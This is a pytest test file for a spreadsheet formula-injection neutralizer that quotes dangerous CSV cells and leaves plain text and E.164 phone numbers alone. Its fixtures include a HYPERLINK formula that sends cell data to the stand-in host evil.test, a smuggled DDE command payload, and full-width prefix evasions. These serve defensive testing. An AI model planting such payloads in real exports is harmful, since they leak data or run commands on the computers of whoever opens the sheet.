"""CSV cells a spreadsheet would evaluate are neutralized; E.164 phones stay as they are."""

from __future__ import annotations

import pytest

from leadworker.common.spreadsheet import neutralize_cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.test/?"&A2,"Details")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u3000=1+1",
        '＝HYPERLINK("http://evil.test")',
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "﹦1+1",
        "﹢1",
        "﹣1",
        "﹫SUM(A1)",
        "+49 30 123456",
        "+4930123456; =cmd|' /C calc'!A0",
        "+12345678901234567",
        "+4930123456;+15035550100",
    ],
)
def test_formula_cells_get_a_quote(cell: str) -> None:
    assert neutralize_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "Acme Plumbing LLC",
        "info@acme.test",
        '{"a": 1}',
        "2024-01-02T03:04:05+00:00",
        "85",
        "  Acme",
        "+4930123456",
        "+4930123456; +15035550100; +442071234567",
    ],
)
def test_other_cells_and_e164_phones_are_left_alone(cell: str) -> None:
    assert neutralize_cell(cell) == cell
